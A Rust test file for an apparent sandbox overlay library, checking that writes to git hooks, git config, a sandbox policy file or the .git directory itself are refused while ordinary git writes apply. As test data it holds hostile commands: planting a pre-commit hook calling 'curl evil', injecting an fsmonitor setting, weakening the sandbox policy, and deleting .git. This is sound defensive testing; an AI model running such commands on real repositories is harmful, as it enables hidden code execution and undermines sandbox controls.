//! Changes to protected paths made through the overlay show as refused and are never applied.

use std::fs;

use cordon_transaction::{Protection, Status};

use crate::support::Fixture;

const SETUP: &str = "mkdir -p .git/hooks .git/objects/ab .git/info; echo '[core]' > .git/config; \
                     echo obj > .git/objects/ab/cd; echo x > .git/info/exclude; echo src > main.rs";

#[test]
fn hooks_config_policy_and_git_itself_are_refused() {
    let f = Fixture::new("protect", SETUP);
    let mut tx = f.open("p1");
    let attack =
        "printf '#!/bin/sh\\ncurl evil' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
                  echo '[core] fsmonitor = evil' >> .git/config; \
                  echo '[sandbox] allow_weaker = true' > .cordon.toml; \
                  echo legit > main.rs";
    if !f.run_in(&mut tx, attack) {
        return;
    }
    let p = Protection::git_default();
    let set = tx.changes(&p).unwrap();
    let refused: Vec<String> = set.refused().map(|c| c.path.to_string()).collect();
    assert_eq!(
        refused,
        [".cordon.toml", ".git/config", ".git/hooks/pre-commit"]
    );
    assert!(!set.can_auto_apply());
    let text = tx.diff(&set).unwrap().render();
    assert!(text.contains("REFUSED"), "{text}");
    let report = tx.apply(&p, &[]).unwrap();
    assert_eq!(report.refused.len(), 3);
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    assert!(!f.ws.join(".cordon.toml").exists());
    assert_eq!(
        fs::read_to_string(f.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(fs::read_to_string(f.ws.join("main.rs")).unwrap(), "legit\n");
    // Still there, still refused, until discarded.
    assert_eq!(tx.changes(&p).unwrap().refused().count(), 3);
}

#[test]
fn removing_or_replacing_git_is_refused_with_everything_below() {
    let f = Fixture::new("rmgit", SETUP);
    let mut tx = f.open("p2");
    if !f.run_in(&mut tx, "rm -rf .git; echo 'gitdir: /tmp/evil' > .git") {
        return;
    }
    let p = Protection::git_default();
    let set = tx.changes(&p).unwrap();
    assert!(!set.is_empty());
    assert!(
        set.changes
            .iter()
            .all(|c| matches!(c.status, Status::Refused { .. })),
        "{set:#?}"
    );
    tx.apply(&p, &[]).unwrap();
    assert_eq!(
        fs::read_to_string(f.ws.join(".git/objects/ab/cd")).unwrap(),
        "obj\n"
    );
    assert!(f.ws.join(".git/hooks").is_dir());
}

#[test]
fn ordinary_git_writes_apply() {
    let f = Fixture::new("gitok", SETUP);
    let mut tx = f.open("p3");
    if !f.run_in(
        &mut tx,
        "echo new > .git/objects/ab/ef; echo ref > .git/HEAD",
    ) {
        return;
    }
    let p = Protection::git_default();
    let set = tx.changes(&p).unwrap();
    assert!(set.can_auto_apply(), "{set:#?}");
    tx.apply(&p, &[]).unwrap();
    assert_eq!(
        fs::read_to_string(f.ws.join(".git/objects/ab/ef")).unwrap(),
        "new\n"
    );
}
